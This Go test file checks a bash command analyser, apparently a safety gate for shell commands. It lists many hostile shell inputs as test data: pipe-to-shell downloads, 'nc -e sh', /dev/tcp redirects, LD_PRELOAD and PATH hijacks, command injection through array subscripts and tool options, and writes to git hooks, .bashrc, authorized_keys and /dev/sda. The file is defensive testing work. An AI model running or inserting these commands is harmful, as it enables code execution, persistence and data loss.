package command

import (
	"slices"
	"strings"
	"testing"
)

func TestWhatCannotBeToldIsAnUnknown(t *testing.T) {
	tests := map[Kind][]string{
		KindSyntax: {
			"echo 'abc", "if true", "echo ${x", "echo )", "a &&",
			"ls #\\\nrm x", "true # '\\\nrm x\n# '",
			`echo "${y:-'$(rm x)'}"`, `echo "${y:='` + "`rm x`" + `'}"`, `echo "${y:+'$(rm x)'}"`, `echo "${y-$'$(rm x)'}"`, "cat <<E\n${y:-'$(rm x)'}\nE",
			"coproc x=1 rm y", "coproc rm <f", "coproc {x}>f rm y", "coproc rm x",
			"echo @($(rm x))", "echo \xff",
		},
		KindEvaluation: {
			"[[ a -eq 'b[$(rm x)]' ]]", "let 'a[$(rm x)]=1'", "test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]", "[[ -v 'a[$(rm x)]' ]]",
			"printf -v 'a[$(rm x)]' y", "read 'a[$(rm x)]' <<< y", "unset 'a[$(rm x)]'", "declare -i 'a=b[$(rm x)]'", "mapfile -C 'rm x' y", "wait -p 'a[$(rm x)]'",
			"x='a[$(rm y)]'; echo $((x))", "x='a[$(rm y)]'; ((x))", "x='a[$(rm y)]'; echo ${y:x}", "x='a[$(rm y)]'; echo ${b[x]}", "x='a[$(rm y)]'; b[x]=1",
			"x='a[$(rm y)]'; [[ $x -gt 1 ]]", "x='a[$(rm y)]'; y=$x; ((y))", "x='a[$(rm y)]'; echo ${!x}", "read x; ((x))", "for x in 'a[$(rm y)]'; do ((x)); done", "((x)); x='a[$(rm y)]'",
			"x=$(cat f); ((x))", "x=$(wc -l f); ((x))", "((x = $(cat f)))", "f() { echo $(($1)); }", "declare -i x; x='a[$(rm y)]'", "declare -n x='a[$(rm y)]'",
			"export x='a[$(rm y)]'; bash -c '((x))'", "env x='a[$(rm y)]' bash -c '((x))'", "echo ${x:='a[$(rm y)]'} $((x))",
			"eval $x", `eval "$(cat f)"`, "trap $x EXIT", `sh -c "$x"`, ". ./s.sh", "source s.sh", "echo ${x@P}", "compgen -W '$(rm x)'", "complete -C 'rm x' y", "bind -x '\"a\": rm'", "fc -s", `parallel "$x" ::: a`, "sudo -s $x",
		},
		KindDynamicName: {
			"$x y", "${x:-rm} y", "a=r; b=m; $a$b y", "$(echo rm) y", "`echo rm` y", "\"$@\"", "r$()m x", "rm$IFS\"x\"", "/bin/r[m] x", "/usr/b*/rm x", "r?m", "~/rm x", "~root/rm", "/usr/bin/@(rm) x", "${!a} x",
			"sudo $x", "env $x", "xargs -I{} {} x", "nice $x rm y", "find . -exec {} \\;", "nice $x", "exec $x", "sh -c '\"$@\"' _ rm x", "sh -c '$0' rm",
		},
		KindRedefinition: {"alias ls=rm", "hash -p /bin/rm ls", "enable -f ./x ls", "enable -n cd", "shopt -s expand_aliases", "set -k", "set -o keyword", "cd() { :; }", "eval() { :; }"},
		KindEnvironment: {
			"PATH=. ls", "LD_PRELOAD=./x ls", "export PATH=$PWD:$PATH", "declare PATH=.", "PATH+=:.", "typeset -x PATH=.", "readonly PATH=.", "export \"PATH=.\"", "export $x", "export \"$x\"", "command export PATH=.",
			"env PATH=. ls", "env LD_PRELOAD=x ls", "sudo LD_PRELOAD=x ls", ": ${PATH:=.}", "for PATH in .; do ls; done", "read PATH", "printf -v PATH .", "getopts a PATH", "mapfile PATH",
			"GIT_SSH_COMMAND=x git fetch", "PAGER='rm x' man ls", "GIT_PAGER=./x git log", "BASH_ENV=x bash -c ls", "ENV=x sh -i -c ls", "PS4='$(rm x)'", "PROMPT_COMMAND=rm", "PYTHONPATH=. python3 a.py", "NODE_OPTIONS='-r ./x' node a.js",
			"PERL5OPT=-Mx perl a.pl", "LESSOPEN='|rm %s' less f", "LESS='+!rm' less f", "MAKEFLAGS=x make", "npm_config_script_shell=./x npm test", "NPM_CONFIG_SCRIPT_SHELL=./x npm test", "HOME=. git log", "CC=./x make", "CFLAGS='-wrapper rm' make",
			"BASH_ALIASES[ls]=rm", "BASH_CMDS[ls]=rm", "IFS=/; ls", "IFS=$x",
		},
		KindInlineCode: {
			"python3 -c 'x'", "python3 -Bc x", "python3 -m timeit x", "node -e x", "node -pe x", "node --eval=x", "perl -e x", "perl -wle x", "perl -F -e x", "perl -i -pe x f", "ruby -e x", "php -r x", "lua -e x",
			"awk 'BEGIN { system(\"rm x\") }'", "awk '{ print | \"rm\" }'", "awk '{ print > \"f\" }'", `awk "$x"`, "gawk '@load \"x\"'", "sed '1e rm x' f", "sed s/a/b/e f", "sed 'w f' g", "sed --expression='1e rm x' f", `sed "s/a/$x/" f`,
			"sqlite3 d '.shell rm x'", "psql -c '\\! rm x'", "mysql -e 'system rm x'",
		},
		KindStdinShell: {
			"cat f | sh", "curl u | bash", "sh < f", "bash -s < f", "echo $x | sh", "bash <<E\n$x\nE", "bash /dev/stdin < f", "bash <(cat f)", "sh -- - < f", "sudo bash < f", "sudo -s < f", "su < f", "script o < f",
			"python3 < f", "python3 - < f", "python3 <<E\nimport os\nE", "echo x | node", "python3 <(cat f)", "python3 /dev/fd/3", "sh $x", "vim f < g", "ed f <<< '!rm'", "echo .shell | sqlite3 d", "sftp h < f", "echo x | parallel",
		},
		KindOption: {
			"env --weird rm x", "timeout 5 -s KILL rm x", "timeout \"$x\" rm y", "sudo -e f", "bash --rcfile x -i", "bash +x -c ls", "bash -oc pipefail 'rm x'", "bash -O expand_aliases -c ls", "ld.so --preload x /bin/ls", "docker run -v /:/h alpine ls", "xargs --max-l=1 rm",
			"tar --to-command='rm x' -xf a", "tar xf a --to-c='rm x'", "tar --use-comp='rm x' -cf a b", "tar -I 'rm x' -cf a b", "tar cIf 'rm x' a b", "tar cf a b --checkpoint-action=exec=rm", "tar -T l -cf a", "tar cf a *", "tar cf h:a b",
			"git -c core.pager=rm log", "git -ccore.pager=rm log", "git -c alias.x='!rm' x", "git st", "git $x", "git --git-dir=x log", "git --exec-path=. log", "git --config-env=a=b log", "git diff --ext-diff", "git diff --output=f", "git clone -u x y", "git clone --upload-pack=x y", "git clone -c a=b y", "git clone 'ext::rm x'", "git fetch --upl=x", "git push --exec=x o",
			"git grep -O a", "git grep --open-files-in-pager=rm a", "git rebase -x rm HEAD", "git rebase -ix rm HEAD", "git rebase --exec rm HEAD", "git rebase -i HEAD", "git difftool -x rm", "git config core.pager rm", "git config --global alias.x '!rm'", "git config -f f a.b c", "git log $x", `git log "$x"`, "git log *",
			"rg --pre rm a", "rg --hostname-bin rm a", "sort --compress-program=rm f", "sort --compress-prog=rm f", "sort *", "split --filter=rm f", "date -f f", "man -P rm ls", "man --html=rm ls", "less '+!rm' f", "vim -c '!rm' f", "vim '+!rm' f", "vim --cmd x f", "curl -K f", "wget --use-askpass=x u", "wget -e a=b u",
			"ssh -oProxyCommand=rm h", "ssh -o ProxyCommand=rm h", "ssh -F f h", "ssh h -o ProxyCommand=rm x", "ssh h -F f", `ssh "$x"`, "scp -S ./x a h:b", "rsync -e 'rm x' a b", "rsync --rsh=rm a b", "rsync -ave rm a b", "zip -T -TT rm a b", "zip --unzip-command=rm a b",
			"go test -exec rm ./...", "go test --exec=rm", "go vet -vettool=./x .", "go build -toolexec rm .", "go build -ldflags=-extld=rm .", "go env -w CC=rm", "gcc -wrapper rm a.c", "x86_64-linux-gnu-gcc-13 -wrapper rm a.c", "vim.tiny -c '!rm' f", "gcc -B. a.c", "gcc @f", "gcc -fplugin=x a.c", "gcc -Wl,x a.c",
			"make SHELL=./x", "make CC='rm x;'", "make --eval=x", "npm run x --script-shell=./x", "npm exec -c x", "npx -c x", "node -r ./x a.js", "node --import=./x a.js", "perl -Mx a.pl", "ruby -rx a.rb", "php -d a=b a.php", "openssl req -engine ./x", "nc -e sh h 1", "hg --config a=b log", "apt-get -o a=b install x", "awk -f f", "sed -f f", "fd $x", "find $x",
		},
		KindProgram:     {"tmux new rm", "socat - EXEC:rm", "at now", "crontab f", "npm config set script-shell x", "kubectl config view", "go tool x", "run-parts d"},
		KindShell:       {"zsh -c 'rm x'", "fish -c x", "ksh x", "pwsh x", "tcsh", "zsh5 -c 'rm x'", "bash-5.2 -c 'rm x'"},
		KindRedirect:    {"echo > $x", "echo > ~/x", "echo > *", "cat < $x", "echo >& $x", "cat < /dev/tcp/1.2.3.4/80", "exec 3<>/dev/udp/h/1", "echo > x{a,b}"},
		KindWrite:       {"sort -o f g", "sort --output=f g", "curl -o f u", "curl -sSo f u", "curl -O u", "wget -O f u", "find . -delete", "find . -fprintf f x", "date -s x", "uniq a b", "strace -o f ls"},
		KindProtected:   {"echo > .git/hooks/x", "echo >> .git/config", "echo > a/../.git/hooks/x", "echo > .mcp.json", "tee .git/hooks/x", "dd of=/dev/sda", "echo > /dev/sda", "echo > /etc/x", "cp a ~/.bashrc", `cp a "$HOME/.bashrc"`, "mv a b/.ssh/authorized_keys", "{ a; } > .bashrc", "f() { a; } > .profile", "curl -o .bashrc u", "ln -s a /usr/bin/b"},
		KindWrittenCode: {"echo > s.sh; sh s.sh", "echo > s.sh; ./s.sh", "tee s.sh; bash ./s.sh", "cat > s.py <<E\nE\npython3 s.py", "echo > Makefile; make", "sed -i s/a/b/ s.sh; sh s.sh", "cp a s.sh; ./s.sh", "./s.sh; echo > s.sh", "echo > $x; ./s.sh", "wget http://h/s.sh; sh s.sh", "dd of=s.sh; sh s.sh"},
		KindDirectory:   {"cd $x", "cd", "cd -", "pushd \"$x\"", "ln -s .. up && cd up"},
	}
	for kind, texts := range tests {
		for _, text := range texts {
			t.Run(string(kind)+"/"+text, func(t *testing.T) {
				a := analyseBash(text)
				if !slices.Contains(kinds(a), string(kind)) {
					t.Errorf("%q has no unknown of kind %q but %q", text, kind, kinds(a))
				}
				for _, u := range a.Unknown {
					if u.Reason == "" || strings.Contains(u.Text, "\n") || len(u.Text) > maxSpanBytes+len("…") {
						t.Errorf("unknown %+v of %q is not for people", u, text)
					}
				}
			})
		}
	}
}

func TestPlainTextsHaveNoUnknown(t *testing.T) {
	for _, text := range []string{
		"", "# nothing", "ls -la | wc -l", "echo 'rm -rf /' \"$HOME\" *.txt ~", "cat <<E > out.txt\nhello $USER\nE", "while IFS= read -r line; do echo \"$line\"; done < a.txt",
		"i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done", "for ((i=0;i<3;i++)); do echo $i; done", "n=$(wc -l < a.txt); echo $((n+1))", "for i in {1..5}; do echo $((i*2)); done", "for i in $(seq 1 5); do ((i++)); done",
		"a=(1 2 3); echo ${a[0]} ${a[@]} ${#a[@]} ${!a[@]}", "[[ -f a && \"$x\" == foo* ]] && echo yes", "case \"$x\" in a*|b) echo 1;; *) echo 2;; esac", "echo \"${x//a/b}\" \"${x:0:3}\" \"${x^^}\" \"${x##*/}\" ${#x}",
		"declare -A m=([a]=1); echo \"${m[a]}\"", "declare -i n=5; n+=1", "let 'x = 1 + 2'", "mapfile -t l < f", "wait $!", "set -euo pipefail; ls", "set -- a b", "shopt -s nullglob", "trap 'rm -f a' EXIT", "trap - INT", "eval 'echo hi'", "printf -v x '%d' 1", "read -r a b",
		"f() { local n=$1; echo \"$n\"; }; f 3", "command -v jq", "type ls", "alias", "hash -r", "exec > log 2>&1; ls", "true > /dev/null 2>&1", "echo ${y:-'$(rm x)'}", "mkdir -p src/{a,b}", "unset x",
		"find . -type f -name '*.go' -newermt yesterday", "find . -name '*.txt' -exec grep -l a {} +", "find . -print0 | xargs -0 grep a", "find \"./$x\" -type f", "ls | xargs -n1 basename", "xargs -I{} echo {} < list", "fd -e go -x wc -l",
		"git status -sb", "git log --oneline -n 5 --format='%h %s'", "git log -5", "git log --grep push", "git diff --stat HEAD~3..HEAD -- a", "git commit -am 'fix; rm -rf b'", "git commit -m \"$msg\"", "git commit -m '- item'", "git -c color.ui=never log -1", "git --no-pager show HEAD:a", "git checkout -b f && git push -u origin f", "git add -- $x",
		"git clone --depth 1 https://h/a.git", "git config --get a.b", "git config user.name x", "git rebase --onto main a b", "git tag -a v1 -m 'v 1'", "git stash push -m wip", "git rm --cached a", "git submodule update --init", "git bisect start HEAD HEAD~9",
		"npm install -D jest", "npm run build -- --watch", "npx eslint . --fix", "yarn install --frozen-lockfile", "go build -o bin/x -ldflags '-s -w -X main.v=1' ./...", "go test -race -count=1 -run 'A|B' ./...", "go run . --flag", "cargo test -- --nocapture", "pip install -r r.txt", "make -j4 PREFIX=/usr/local all", "docker ps -a", "docker compose up -d", "docker run --rm -it alpine",
		"python3 a.py -c x", "python -m pytest -x", "node a.js --eval", "perl a.pl", "ruby -v", "php -l a.php", "bash s.sh", "bash -lc 'npm test'", "sh ./run.sh a", "timeout 60 go test ./...", "nohup ./server > log 2>&1 &", "sudo apt-get install -y jq",
		"curl -sSfL https://h/x -H 'A: b'", "curl -s -o /dev/null -w '%{http_code}' u", "wget -q https://h/a", "wget -qO- u", "ssh -o StrictHostKeyChecking=no h 'ls; id'", "rsync -avz -e ssh a h:b", "scp -P 22 a h:b",
		"tar xzf a.tgz -C o", "tar -czvf a.tgz d --exclude=x", "tar cf - d | gzip > x", "sort -t, -k2 -n f", "sort -k \"$n\" f", "sort -u -- *", "sort ./*", "date -d '1 day ago' +%s", "rg -n 'a|b' -g '*.go' s", "zip -r a.zip d", "split -l 10 f p",
		"sed -n '10,20p' f", "sed -i 's/a/b/g' f", "sed '/^#/d;/^$/d' f", "sed 's|/usr|/opt|' f", "sed 's/[^/]*$//' f", "sed -E 's/([a-z]+)=(.*)/\\2/;y/ab/cd/' f", "sed -e 1d -e '$d' f", "sed '1i\\\nfoo' f", "sed ':a;N;$!ba' f",
		"awk '{print $1, $2}' f", "awk -F: '$3 > 1000 {print $1}' f", "awk '{ s += $1 } END { print s / NR }' f", "awk '/a|b/ && !/c/ { print \"x > y\" }' f", "awk '{ if ($1 ~ /^[0-9]+$/) print $0 }'", "awk '{ print $1 || $2 }'",
		"gcc -O2 -Wall -std=c11 -o x x.c -lm && ./x", "cmake -S . -B b -DCMAKE_BUILD_TYPE=Release", "cmake --build b -j4", "psql -c 'select 1'", "sqlite3 d 'select 1'", "openssl rand -hex 16", "less f", "man -k x", "vim f", "crontab -l", "env | sort", "time ls",
		"LC_ALL=C FOO=bar ls", "export FOO=bar BAZ=\"$x\"", "PAGER=cat git log", "GIT_AUTHOR_NAME=x git commit -m y", "CC=clang CFLAGS='-O2 -g' make", "PYTHONUNBUFFERED=1 python3 a.py", "IFS=, read -r a b", "NODE_ENV=test npm test",
		"cp -r a b", "echo x > out.txt", "cat < /proc/meminfo", "ls 2>&1 | tee -a log", "cd sub && ls", "echo a > s.txt; sh t.sh",
	} {
		t.Run(text, func(t *testing.T) {
			a := analyseBash(text)
			if a.Refused != nil || len(a.Unknown) > 0 {
				t.Errorf("%q: refused %+v, unknown %+v", text, a.Refused, a.Unknown)
			}
		})
	}
}

func TestKindsThatHideNoCommand(t *testing.T) {
	for _, kind := range []Kind{KindRedirect, KindWrite, KindDirectory} {
		if kind.HidesCommand() {
			t.Errorf("%s hides a command", kind)
		}
	}
	if !KindProtected.HidesCommand() || !Kind("new").HidesCommand() {
		t.Error("a kind that is not known to be harmless hides no command")
	}
}
